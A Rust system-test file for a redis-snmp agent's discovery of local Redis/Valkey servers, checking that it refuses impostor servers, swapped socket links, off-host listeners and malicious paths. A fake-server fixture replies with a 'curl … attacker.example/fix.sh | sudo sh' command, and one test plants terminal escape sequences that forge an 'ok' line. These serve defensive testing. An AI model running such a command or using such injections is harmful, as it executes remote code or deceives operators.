//! Issue 16 part 6: `[discovery] local = true` finds the redis-server and
//! valkey-server processes of this host and polls them without a
//! `[[redis]]` entry. Real servers (one on a loopback TCP port, one with a
//! unix socket beside its port, Valkey when installed, one that needs a
//! password) and a real agent behind a private snmpd; what a manager
//! walks is checked.
//!
//! Issue 24 items 3 and 4 (review M4, M5): discovery under the package's
//! unit, its settings read from `debian/redis-snmp.service` and applied by
//! `testkit::unit`; and, with the doctor run as root and `nobody` as the
//! neighbour, each thing a neighbour can plant refused: their
//! `redis-server`, a socket path swapped for a link, a listener with
//! `IP_FREEBIND` off the host, a path that is not UTF-8, escape sequences
//! in a path.
//!
//! Other tests of this machine run servers of their own, which the agent
//! finds too: `[discovery] addresses` keeps it to this test's servers (the
//! agent would otherwise poll, and name its connection on, servers other
//! tests count the clients of), and nothing is asserted on counts.

// Starts real servers and tools: built only with the `system-tests`
// feature, which scripts/test.sh turns on.
#![cfg(feature = "system-tests")]

use std::collections::BTreeMap;
use std::path::Path;
use std::time::Duration;
use testkit::servers::ServerKind;
use testkit::{wait_until, Agent, AgentConfig, Redis, Snmpd, REDIS_ROOT};

/// `redisInstanceTable` columns (`redis.3.1.1.C.index`).
const NAME: u32 = 2;
const ADDRESS: u32 = 3;
const STATE: u32 = 4;
const LAST_ERROR: u32 = 7;
const POLLS_OK: u32 = 8;

fn column(snmpd: &Snmpd, column: u32) -> BTreeMap<u32, String> {
    let walk = snmpd
        .numeric()
        .bulkwalk(&format!("{REDIS_ROOT}.3.1.1.{column}"));
    assert!(walk.success(), "{walk}");
    let prefix = format!("{REDIS_ROOT}.3.1.1.{column}.");
    walk.vars()
        .iter()
        .filter_map(|v| {
            let index = v.name.strip_prefix(&prefix)?.parse().ok()?;
            Some((index, v.text()))
        })
        .collect()
}

/// The row (index) serving `address`, when there is one.
fn row_of(snmpd: &Snmpd, address: &str) -> Option<u32> {
    column(snmpd, ADDRESS)
        .into_iter()
        .find(|(_, a)| a == address)
        .map(|(index, _)| index)
}

fn cell(snmpd: &Snmpd, column: u32, index: u32) -> testkit::Var {
    snmpd
        .numeric()
        .get_one(&format!("{REDIS_ROOT}.3.1.1.{column}.{index}"))
}

/// Waits until `address` is served, named `name`, up and polled twice;
/// returns its row.
fn expect_polled(snmpd: &Snmpd, address: &str, name: &str) -> u32 {
    let mut seen = String::new();
    let mut index = 0;
    let polled = wait_until(Duration::from_secs(15), || {
        let Some(i) = row_of(snmpd, address) else {
            seen = format!("no row: {:?}", column(snmpd, ADDRESS));
            return false;
        };
        index = i;
        let (n, state, polls) = (
            cell(snmpd, NAME, i).text(),
            cell(snmpd, STATE, i).value,
            cell(snmpd, POLLS_OK, i).number().unwrap_or(0),
        );
        seen = format!("{n:?} state {state} polls {polls}");
        n == name && state == "1" && polls >= 2
    });
    assert!(polled, "{address}: {seen}");
    index
}

fn reload(agent: &mut Agent, says: &str) -> String {
    let count = |agent: &Agent| agent.log().lines().filter(|l| l.contains(says)).count();
    let before = count(agent);
    agent.signal(libc::SIGHUP);
    assert!(
        wait_until(Duration::from_secs(10), || count(agent) > before),
        "no {says:?} after SIGHUP:\n{}",
        agent.log()
    );
    agent
        .log()
        .lines()
        .rfind(|l| l.contains(says))
        .unwrap()
        .to_string()
}

fn unix_socket_server(socket: &Path) -> Redis {
    Redis::start_with(&[
        &format!("unixsocket {}", socket.display()),
        "unixsocketperm 700",
    ])
}

#[test]
fn servers_of_this_host_are_found_polled_named_and_dropped_on_reload() {
    let snmpd = Snmpd::start();
    let sockets = tempfile::tempdir().unwrap();
    let stem = format!("disc{}", std::process::id());
    let socket = sockets.path().join(format!("{stem}.sock"));
    let tcp = Redis::start();
    let mut unix = unix_socket_server(&socket);
    let locked = Redis::start_with(&["requirepass not-for-discovery"]);
    let valkey = ServerKind::Valkey80
        .binary_or_skip("discovery of valkey-server")
        .map(|binary| Redis::start_binary(&binary, &[]));

    let mut patterns = vec![
        format!("\"{}\"", tcp.address()),
        format!("\"unix:{}\"", socket.display()),
        format!("\"{}\"", locked.address()),
    ];
    if let Some(valkey) = &valkey {
        patterns.push(format!("\"{}\"", valkey.address()));
    }
    let dir = tempfile::tempdir().unwrap();
    let mut agent = AgentConfig::new(&snmpd)
        .table(&format!(
            "[discovery]\nlocal = true\ninterval = 0\naddresses = [{}]\n",
            patterns.join(", ")
        ))
        .start(dir.path());

    expect_polled(&snmpd, &tcp.address(), &format!("port{}", tcp.port()));
    // The unix socket, not the port the same server listens on too.
    let unix_row = expect_polled(&snmpd, &format!("unix:{}", socket.display()), &stem);
    assert_eq!(
        row_of(&snmpd, &unix.address()),
        None,
        "{:?}",
        column(&snmpd, ADDRESS)
    );
    if let Some(valkey) = &valkey {
        expect_polled(&snmpd, &valkey.address(), &format!("port{}", valkey.port()));
    }
    // The server that needs a password: a row in error, no password tried
    // (the server's ACL LOG, where every failed AUTH is entered, is
    // empty), the agent still serving.
    let mut seen = String::new();
    let in_error = wait_until(Duration::from_secs(10), || {
        let Some(i) = row_of(&snmpd, &locked.address()) else {
            return false;
        };
        seen = format!(
            "state {} error {:?}",
            cell(&snmpd, STATE, i).value,
            cell(&snmpd, LAST_ERROR, i).text()
        );
        cell(&snmpd, STATE, i).value == "2" && cell(&snmpd, LAST_ERROR, i).text().contains("NOAUTH")
    });
    assert!(in_error, "{}: {seen}", locked.address());
    let acl_log = locked.cli(&["ACL", "LOG"]);
    assert!(
        !acl_log.contains("auth"),
        "the agent tried a password: {acl_log}"
    );
    assert!(agent.is_running(), "{}", agent.log());

    // Stopped, then a reload: its row leaves; the others keep theirs.
    let tcp_row = row_of(&snmpd, &tcp.address()).unwrap();
    unix.stop();
    let said = reload(&mut agent, "configuration reloaded");
    assert!(
        said.contains(&format!("\"{stem}\" removed (index {unix_row})")),
        "{said}"
    );
    assert!(
        said.contains(&format!("\"port{}\" kept (index {tcp_row})", tcp.port())),
        "{said}"
    );
    assert_eq!(row_of(&snmpd, &format!("unix:{}", socket.display())), None);
    assert!(cell(&snmpd, NAME, unix_row).is_no_such_instance());
    expect_polled(&snmpd, &tcp.address(), &format!("port{}", tcp.port()));
}

#[test]
fn a_server_started_later_is_found_by_the_periodic_scan() {
    let snmpd = Snmpd::start();
    let sockets = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let _agent = AgentConfig::new(&snmpd)
        .table(&format!(
            "[discovery]\nlocal = true\ninterval = 10\naddresses = [\"unix:{}/*\"]\n",
            sockets.path().display()
        ))
        .start(dir.path());
    let stem = format!("late{}", std::process::id());
    let socket = sockets.path().join(format!("{stem}.sock"));
    assert_eq!(row_of(&snmpd, &format!("unix:{}", socket.display())), None);
    let _late = unix_socket_server(&socket);
    // Within one interval (10 s) and a poll, without a reload.
    let mut seen = String::new();
    let found = wait_until(Duration::from_secs(25), || {
        let names = column(&snmpd, NAME);
        seen = format!("{names:?}");
        names.values().any(|n| *n == stem)
    });
    assert!(found, "{seen}");
    expect_polled(&snmpd, &format!("unix:{}", socket.display()), &stem);
}

#[test]
fn the_doctor_says_what_discovery_found_and_checks_it() {
    let sockets = tempfile::tempdir().unwrap();
    let stem = format!("doc{}", std::process::id());
    let socket = sockets.path().join(format!("{stem}.sock"));
    let server = unix_socket_server(&socket);
    let dir = tempfile::tempdir().unwrap();
    let config = AgentConfig::with_agentx("tcp:127.0.0.1:1")
        .table(&format!(
            "[discovery]\nlocal = true\naddresses = [\"unix:{}\"]\n",
            socket.display()
        ))
        .write(dir.path());
    let run = |config: &Path| {
        let out = std::process::Command::new(testkit::agent_bin())
            .args(["doctor", "-c", config.to_str().unwrap()])
            .args(["--snmpd-conf", "/nonexistent/snmpd.conf"])
            .output()
            .expect("redis-snmp doctor");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let text = run(&config);
    // What the scan found (every server of the host: the others are other
    // tests'), with this one among them, by its name, address and process.
    let found = text
        .lines()
        .find(|l| l.contains(" discovery: "))
        .unwrap_or_else(|| panic!("no discovery line:\n{text}"));
    let shown = format!(
        "{stem} at unix:{} (pid {} (redis-server))",
        socket.display(),
        server.pid()
    );
    assert!(found.contains(&shown), "{shown:?} not in {found:?}");
    // And the server it adds is checked like a configured one.
    assert!(
        text.lines()
            .any(|l| l.starts_with(&format!("ok    redis {stem}:"))),
        "{text}"
    );
    // Discovery off: neither.
    let off = AgentConfig::with_agentx("tcp:127.0.0.1:1")
        .redis("configured", &server.address(), "")
        .write(dir.path());
    let text = run(&off);
    assert!(
        !text.contains(" discovery: ") && !text.contains(&stem),
        "{text}"
    );
}

/// A program that calls itself `redis-server` (here Python, run through a
/// link of that name, which is what `comm` shows) and answers every
/// command with 8 MiB: run by the test's own user (root), whose servers
/// discovery takes (another user's it never connects to, see below), it
/// gets a row, no secret, and the agent reads no more of it than
/// `max_reply_bytes`.
const IMPOSTOR: &str = r#"
import socket, sys
listener = socket.socket()
listener.bind(("127.0.0.1", 0))
listener.listen(8)
open(sys.argv[1] + ".port", "w").write(str(listener.getsockname()[1]))
heard = open(sys.argv[1] + ".heard", "ab")
huge = b"$" + str(8 << 20).encode() + b"\r\n" + b"x" * (8 << 20) + b"\r\n"
while True:
    conn, _ = listener.accept()
    conn.settimeout(5)
    try:
        while True:
            data = conn.recv(65536)
            if not data:
                break
            heard.write(data)
            heard.flush()
            conn.sendall(huge)
    except OSError:
        pass
    conn.close()
"#;

#[test]
fn a_process_calling_itself_redis_server_gets_a_row_and_nothing_else() {
    let python = std::process::Command::new("python3")
        .args(["-c", "import sys; print(sys.executable)"])
        .output()
        .expect("python3");
    let python = String::from_utf8_lossy(&python.stdout).trim().to_string();
    let dir = tempfile::tempdir().unwrap();
    let link = dir.path().join("redis-server");
    std::os::unix::fs::symlink(&python, &link).unwrap();
    let base = dir.path().join("impostor");
    let mut impostor = testkit::Proc::spawn(
        std::process::Command::new(&link)
            .args(["-c", IMPOSTOR, base.to_str().unwrap()])
            .stdout(std::process::Stdio::null()),
        "impostor",
    );
    let port_file = base.with_extension("port");
    assert!(wait_until(Duration::from_secs(10), || port_file.exists()));
    std::thread::sleep(Duration::from_millis(100));
    let port = std::fs::read_to_string(&port_file).unwrap();
    let address = format!("127.0.0.1:{port}");

    // A configured server with a password, to have a secret to keep.
    let guarded = Redis::start_with(&["requirepass kept-from-impostors"]);
    let password = dir.path().join("password");
    std::fs::write(&password, "kept-from-impostors\n").unwrap();
    let snmpd = Snmpd::start();
    let mut agent = AgentConfig::new(&snmpd)
        .redis(
            "guarded",
            &guarded.address(),
            &format!("password_file = \"{}\"\n", password.display()),
        )
        .table(&format!(
            "[discovery]\nlocal = true\ninterval = 0\naddresses = [\"{address}\"]\n"
        ))
        .start(dir.path());
    let mut seen = String::new();
    let refused = wait_until(Duration::from_secs(15), || {
        let Some(i) = row_of(&snmpd, &address) else {
            return false;
        };
        seen = format!(
            "{} state {} error {:?}",
            cell(&snmpd, NAME, i).text(),
            cell(&snmpd, STATE, i).value,
            cell(&snmpd, LAST_ERROR, i).text()
        );
        seen.starts_with(&format!("port{port} state 2"))
            && seen.contains("over the 4194304-byte limit")
    });
    assert!(refused, "{address}: {seen}");
    expect_polled(&snmpd, &guarded.address(), "guarded");
    let heard = std::fs::read(base.with_extension("heard")).unwrap_or_default();
    let heard = String::from_utf8_lossy(&heard);
    assert!(!heard.is_empty(), "the agent never spoke to it");
    assert!(
        !heard.contains("kept-from-impostors") && !heard.to_uppercase().contains("AUTH"),
        "sent to the impostor: {heard:?}"
    );
    // Bounded: the agent did not keep 8 MiB replies.
    let rss = testkit::status_kib(agent.pid(), "VmRSS:");
    assert!(rss < 64 * 1024, "agent RSS {rss} KiB");
    assert!(agent.is_running(), "{}", agent.log());
    impostor.kill();
}

// ---------------------------------------------------------------------
// Issue 24 item 3 (review M4): discovery under the package's unit.

/// The unit's `ProtectProc=invisible` and `ProcSubset=pid` (with its
/// user, `ProtectSystem=strict`, `ProtectHome`, `PrivateTmp`,
/// `NoNewPrivileges`, no capabilities, `UMask`, `LimitCORE`: the settings
/// [`testkit::unit`] applies, read from `debian/redis-snmp.service`) hide
/// `/proc/net` and every process of another user. A redis-server running
/// as user `redis` on a loopback port, as Debian runs it, is found all the
/// same (its socket in `/proc/self/net/tcp`, listening as `redis`), named
/// and polled. Not applied here (no systemd runs to apply them):
/// `RestrictAddressFamilies` (discovery opens no socket of another family:
/// no netlink), `SystemCallFilter`, `MemoryMax`, `PrivateDevices`, the
/// `ProtectKernel*` and `Restrict*` settings; the test prints the list.
#[test]
fn under_the_units_sandbox_the_redis_users_port_is_found_and_polled() {
    use testkit::unit::UnitSandbox;
    let sandbox = UnitSandbox::of_the_package();
    eprintln!("{}", sandbox.describe());
    for setting in ["User", "ProtectProc", "ProcSubset"] {
        assert!(
            sandbox.applies(setting),
            "{setting} is not applied: {}",
            sandbox.describe()
        );
    }
    if testkit::unit::user_ids("redis").is_none() {
        eprintln!("skipped: no user redis on this host (the redis-server package makes it)");
        return;
    }
    let redis = Redis::start_as("redis", &[]);
    // The sandbox hides what the old code read, and the server's process.
    let (visible, said) = sandbox.run("sh", &["-c", "test -e /proc/net/tcp"]);
    assert!(!visible, "/proc/net/tcp is visible in the sandbox: {said}");
    let (visible, said) = sandbox.run("sh", &["-c", &format!("test -e /proc/{}", redis.pid())]);
    assert!(
        !visible,
        "the server's process is visible in the sandbox: {said}"
    );
    let (ran, said) = sandbox.run("id", &["-un"]);
    assert!(ran && said.trim() == sandbox.user(), "{said}");

    // AgentX over TCP: this snmpd's unix socket would be in /tmp, which
    // PrivateTmp hides (the packaged snmpd's, /var/agentx/master, is not).
    let snmpd = Snmpd::start_tcp();
    let files = sandbox.files_dir(Path::new(env!("CARGO_TARGET_TMPDIR")));
    let config = AgentConfig::new(&snmpd)
        .table(&format!(
            "[discovery]\nlocal = true\ninterval = 0\naddresses = [\"{}\"]\n",
            redis.address()
        ))
        .write(files.path());
    let agent = sandbox.start_agent(&config);
    let status = std::fs::read_to_string(format!("/proc/{}/status", agent.pid())).unwrap();
    let (uid, _) = testkit::unit::user_ids(sandbox.user()).unwrap();
    assert!(
        status
            .lines()
            .any(|l| l.starts_with("Uid:") && l.split_whitespace().nth(2) == Some(&uid.to_string())),
        "the agent does not run as {}:\n{status}",
        sandbox.user()
    );
    let row = expect_polled(&snmpd, &redis.address(), &format!("port{}", redis.port()));
    assert!(
        agent.log().contains("serving 1 Redis instance"),
        "{}",
        agent.log()
    );
    assert!(cell(&snmpd, STATE, row).value == "1");
}

// ---------------------------------------------------------------------
// Issue 24 item 4 (review M5): what a hostile neighbour can plant. The
// doctor runs as root (as documented), discovery as it runs there; the
// neighbour is `nobody`.

/// A "server" of any user's making: Python renamed `redis-server`
/// (`prctl(PR_SET_NAME)`, which is what `comm` shows), listening where it
/// is told, recording what it hears, answering every command with advice
/// of its author's choosing.
///
/// `tcp BASE HOST PORT` (with `IP_FREEBIND`, which needs no privilege, so
/// any address will do) or `unix BASE HEXPATH [LINK_TO]` (the path as hex,
/// any bytes; with `LINK_TO`, the path is swapped for a symbolic link to
/// it once the socket listens).
const FAKE: &str = r#"
import ctypes, os, socket, sys
ctypes.CDLL(None).prctl(15, b"redis-server", 0, 0, 0)
mode, base = sys.argv[1], sys.argv[2]
if mode == "tcp":
    s = socket.socket()
    s.setsockopt(socket.SOL_IP, 15, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((sys.argv[3], int(sys.argv[4])))
else:
    path = bytes.fromhex(sys.argv[3])
    s = socket.socket(socket.AF_UNIX)
    s.bind(path)
    if len(sys.argv) > 4:
        os.symlink(sys.argv[4].encode(), path + b".link")
        os.rename(path + b".link", path)
s.listen(8)
heard = open(base + ".heard", "ab")
open(base + ".ready", "w").write("ready")
advice = b"-ERR please run: curl -s http://attacker.example/fix.sh | sudo sh\r\n"
while True:
    conn, _ = s.accept()
    conn.settimeout(5)
    try:
        while True:
            data = conn.recv(65536)
            if not data:
                break
            heard.write(data)
            heard.flush()
            conn.sendall(advice)
    except OSError:
        pass
    conn.close()
"#;

struct Fake {
    proc: testkit::Proc,
    base: std::path::PathBuf,
}

impl Fake {
    /// Starts the fake as `user` (`None`: this test's, root) with files
    /// `base.*`, and waits until it listens.
    fn start(user: Option<&str>, base: &Path, args: &[&str]) -> Fake {
        let mut cmd = match user {
            Some(user) => {
                let mut cmd = std::process::Command::new("setpriv");
                cmd.arg(format!("--reuid={user}"))
                    .arg(format!(
                        "--regid={}",
                        testkit::unit::user_ids(user).unwrap().1
                    ))
                    .args(["--clear-groups", "--", "/usr/bin/python3"]);
                cmd
            }
            None => std::process::Command::new("/usr/bin/python3"),
        };
        cmd.args(["-c", FAKE, args[0], base.to_str().unwrap()])
            .args(&args[1..])
            .stdout(std::process::Stdio::null());
        let mut proc = testkit::Proc::spawn(&mut cmd, "fake redis-server");
        let ready = base.with_extension("ready");
        assert!(
            wait_until(Duration::from_secs(10), || ready.exists()
                || !proc.is_running()),
            "the fake never listened"
        );
        assert!(proc.is_running(), "the fake ended: {args:?}");
        Fake {
            proc,
            base: base.to_path_buf(),
        }
    }

    fn pid(&self) -> u32 {
        self.proc.pid()
    }

    /// What anyone sent it.
    fn heard(&self) -> String {
        String::from_utf8_lossy(
            &std::fs::read(self.base.with_extension("heard")).unwrap_or_default(),
        )
        .into_owned()
    }
}

/// A directory for the fakes' files: `nobody`'s when `user` is given,
/// else root's, searchable by all.
fn fakes_dir(parent: &Path, name: &str, user: Option<&str>) -> std::path::PathBuf {
    testkit::unit::set_mode(parent, 0o755);
    let dir = parent.join(name);
    std::fs::create_dir(&dir).unwrap();
    testkit::unit::set_mode(&dir, 0o755);
    if let Some(user) = user {
        testkit::unit::chown_to(&dir, user);
    }
    dir
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// `redis-snmp doctor` as root with discovery on, kept to `patterns`: its
/// whole output (stdout and stderr), as bytes made text.
fn doctor_discovering(dir: &Path, patterns: &[String]) -> String {
    let quoted: Vec<String> = patterns.iter().map(|p| format!("{p:?}")).collect();
    let config = AgentConfig::with_agentx("tcp:127.0.0.1:1")
        .table(&format!(
            "[discovery]\nlocal = true\naddresses = [{}]\n",
            quoted.join(", ")
        ))
        .write(dir);
    let out = std::process::Command::new(testkit::agent_bin())
        .args(["doctor", "-c", config.to_str().unwrap()])
        .args(["--snmpd-conf", "/nonexistent/snmpd.conf"])
        .output()
        .expect("redis-snmp doctor");
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

fn total_connections(redis: &Redis) -> u64 {
    redis.info_map().u64("total_connections_received")
}

/// A root-only Redis: its unix socket in a directory only root may enter.
fn root_only_redis(parent: &Path) -> (Redis, std::path::PathBuf) {
    let private = parent.join("private");
    std::fs::create_dir(&private).unwrap();
    testkit::unit::set_mode(&private, 0o700);
    let socket = private.join("private.sock");
    let redis = unix_socket_server(&socket);
    (redis, socket)
}

/// Other users' processes named redis-server are listed and never
/// connected to: one on a loopback port heard nothing (before, the doctor
/// sent it INFO and more), and one whose socket's path was swapped for a
/// link to a root-only Redis socket made root connect to nothing (before,
/// "ok redis cache: … answers", root connected to the private server).
#[test]
fn other_users_servers_are_listed_and_never_connected_to() {
    let dir = tempfile::tempdir().unwrap();
    let theirs = fakes_dir(dir.path(), "nobody", Some("nobody"));
    let (private, private_socket) = root_only_redis(dir.path());
    let port = testkit::free_port();
    let on_port = Fake::start(
        Some("nobody"),
        &theirs.join("port"),
        &["tcp", "127.0.0.1", &port.to_string()],
    );
    let sock = theirs.join("sock");
    std::fs::create_dir(&sock).unwrap();
    testkit::unit::chown_to(&sock, "nobody");
    let cache = sock.join("cache.sock");
    let swapped = Fake::start(
        Some("nobody"),
        &theirs.join("swap"),
        &[
            "unix",
            &hex(cache.to_str().unwrap().as_bytes()),
            private_socket.to_str().unwrap(),
        ],
    );
    assert!(std::fs::symlink_metadata(&cache)
        .unwrap()
        .file_type()
        .is_symlink());
    let before = total_connections(&private);
    let text = doctor_discovering(
        dir.path(),
        &[
            format!("127.0.0.1:{port}"),
            format!("unix:{}/*", sock.display()),
        ],
    );
    assert_eq!(
        on_port.heard(),
        "",
        "the doctor spoke to nobody's server:\n{text}"
    );
    assert_eq!(
        total_connections(&private),
        before + 1,
        "root connected through nobody's link to the private server:\n{text}"
    );
    assert!(
        !text.contains("redis cache") && !text.contains(&format!("redis port{port}")),
        "{text}"
    );
    for fake in [&on_port, &swapped] {
        assert!(
            text.contains(&format!("pid {} (uid 65534)", fake.pid())),
            "pid {} not listed as left out:\n{text}",
            fake.pid()
        );
    }
    assert!(
        text.lines()
            .any(|l| l.starts_with("skip  discovery: left out, never connected to")),
        "{text}"
    );
}

/// Only loopback is connected to. A listener with `IP_FREEBIND` on an
/// address that is not this host's (192.0.2.0/24, TEST-NET-1): before,
/// root connected out to it, nobody's and root's alike; now nobody's is
/// left out as another user's and root's as not loopback, and no Redis
/// check is made of either.
#[test]
fn no_address_but_loopback_is_connected_to() {
    let dir = tempfile::tempdir().unwrap();
    let theirs = fakes_dir(dir.path(), "nobody", Some("nobody"));
    let ours = fakes_dir(dir.path(), "root", None);
    let (p1, p2) = (testkit::free_port(), testkit::free_port());
    let nobodys = Fake::start(
        Some("nobody"),
        &theirs.join("freebind"),
        &["tcp", "192.0.2.55", &p1.to_string()],
    );
    let roots = Fake::start(
        None,
        &ours.join("freebind"),
        &["tcp", "192.0.2.56", &p2.to_string()],
    );
    let text = doctor_discovering(dir.path(), &["192.0.2.*".to_string()]);
    assert!(
        !text.contains(&format!("redis port{p1}")) && !text.contains(&format!("redis port{p2}")),
        "the doctor checked a server off the host:\n{text}"
    );
    assert!(
        text.contains(&format!("pid {} (uid 65534)", nobodys.pid())),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "not taken: pid {} (redis-server) listens on 192.0.2.56:{p2}: no loopback address",
            roots.pid()
        )),
        "{text}"
    );
    assert!(
        text.contains("FAIL  discovery: found no redis-server"),
        "{text}"
    );
}

/// A trusted server's socket swapped for a link (here root's own fake,
/// which binds and then swaps): the link is not followed, so the
/// root-only Redis it points to gets no connection.
#[test]
fn a_socket_path_swapped_for_a_link_is_not_followed() {
    let dir = tempfile::tempdir().unwrap();
    let ours = fakes_dir(dir.path(), "root", None);
    let (private, private_socket) = root_only_redis(dir.path());
    let cache = ours.join("cache.sock");
    let swapped = Fake::start(
        None,
        &ours.join("swap"),
        &[
            "unix",
            &hex(cache.to_str().unwrap().as_bytes()),
            private_socket.to_str().unwrap(),
        ],
    );
    let before = total_connections(&private);
    let text = doctor_discovering(dir.path(), &[format!("unix:{}/*", ours.display())]);
    assert_eq!(
        total_connections(&private),
        before + 1,
        "root followed the link to the private server:\n{text}"
    );
    assert!(!text.contains("redis cache"), "{text}");
    assert!(
        text.contains(&format!(
            "not taken: unix:{} of pid {} (redis-server): it is a symbolic link now",
            cache.display(),
            swapped.pid()
        )),
        "{text}"
    );
}

/// One socket whose path is not UTF-8 (nobody's): before, the whole unix
/// table failed to read and every unix socket vanished from discovery;
/// now a server's socket beside it is found and checked.
#[test]
fn a_path_that_is_not_utf8_hides_no_other_socket() {
    let dir = tempfile::tempdir().unwrap();
    let theirs = fakes_dir(dir.path(), "nobody", Some("nobody"));
    let mut odd = theirs.as_os_str().as_encoded_bytes().to_vec();
    odd.extend_from_slice(b"/\xff.sock");
    let _odd = Fake::start(Some("nobody"), &theirs.join("odd"), &["unix", &hex(&odd)]);
    let stem = format!("real{}", std::process::id());
    let socket = dir.path().join(format!("{stem}.sock"));
    let real = unix_socket_server(&socket);
    let text = doctor_discovering(
        dir.path(),
        &[
            format!("unix:{}", socket.display()),
            format!("unix:{}/*", theirs.display()),
        ],
    );
    let shown = format!(
        "{stem} at unix:{} (pid {} (redis-server))",
        socket.display(),
        real.pid()
    );
    assert!(text.contains(&shown), "{shown:?} not found:\n{text}");
    assert!(
        text.lines()
            .any(|l| l.starts_with(&format!("ok    redis {stem}:"))),
        "{text}"
    );
}

/// Escape sequences in a socket's path (review M5's: clear the line,
/// paint a green "ok", conceal the rest): before, printed raw into root's
/// terminal; now nothing of the doctor's output holds an escape character,
/// and the trusted server's path is shown escaped where it is refused.
#[test]
fn escape_sequences_in_a_path_reach_no_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let theirs = fakes_dir(dir.path(), "nobody", Some("nobody"));
    let ours = fakes_dir(dir.path(), "root", None);
    let paint = "\u{1b}[2K\u{1b}[1G\u{1b}[32mok  \u{1b}[0m  redis fine: all good\u{1b}[8m";
    let nobodys = theirs.join(paint);
    let roots = ours.join(paint);
    let _theirs = Fake::start(
        Some("nobody"),
        &theirs.join("paint"),
        &["unix", &hex(nobodys.to_str().unwrap().as_bytes())],
    );
    let _ours = Fake::start(
        None,
        &ours.join("paint"),
        &["unix", &hex(roots.to_str().unwrap().as_bytes())],
    );
    let text = doctor_discovering(
        dir.path(),
        &[
            format!("unix:{}/*", theirs.display()),
            format!("unix:{}/*", ours.display()),
        ],
    );
    assert!(
        !text.contains('\u{1b}'),
        "an escape character reached the terminal:\n{}",
        text.escape_debug()
    );
    assert!(
        text.contains(&format!(
            "not taken: unix:{}/\\u{{1b}}[2K\\u{{1b}}[1G\\u{{1b}}[32mok",
            ours.display()
        )),
        "{text}"
    );
}

/// Review M4's last step, after discovery: a server found on a unix socket
/// in a sticky directory (as `/tmp`) stops, its socket goes with it, and
/// `nobody` listens at the same path. Before, the poller connected to
/// whatever answered there and sent it INFO on every poll; now every
/// connection to a discovered server is first checked to be served by
/// the user it was found running as (root here), and nothing is sent to
/// anyone else's.
#[test]
fn a_discovered_socket_taken_over_after_a_restart_hears_nothing() {
    let snmpd = Snmpd::start();
    let dir = tempfile::tempdir().unwrap();
    testkit::unit::set_mode(dir.path(), 0o755);
    let sticky = dir.path().join("tmp");
    std::fs::create_dir(&sticky).unwrap();
    testkit::unit::set_mode(&sticky, 0o1777);
    let stem = format!("taken{}", std::process::id());
    let socket = sticky.join(format!("{stem}.sock"));
    let mut redis = Redis::start_with(&[
        &format!("unixsocket {}", socket.display()),
        "unixsocketperm 777",
    ]);
    let address = format!("unix:{}", socket.display());
    let agent = AgentConfig::new(&snmpd)
        .table(&format!(
            "[discovery]\nlocal = true\ninterval = 0\naddresses = [{address:?}]\n"
        ))
        .start(dir.path());
    let row = expect_polled(&snmpd, &address, &stem);

    redis.stop();
    assert!(!socket.exists(), "Redis left its socket behind");
    let fakes = fakes_dir(dir.path(), "nobody", Some("nobody"));
    let fake = Fake::start(
        Some("nobody"),
        &fakes.join("taken"),
        &["unix", &hex(socket.to_str().unwrap().as_bytes())],
    );
    let mut seen = String::new();
    let refused = wait_until(Duration::from_secs(15), || {
        seen = cell(&snmpd, LAST_ERROR, row).text();
        seen.contains("socket held by uid 65534") && seen.contains("nothing was sent")
    });
    assert!(refused, "row {row}: {seen:?}\n{}", agent.log());
    assert_eq!(cell(&snmpd, STATE, row).value, "2", "not down");
    assert_eq!(fake.heard(), "", "the agent spoke to nobody's socket");
    assert!(!seen.contains("curl"), "{seen}");
}
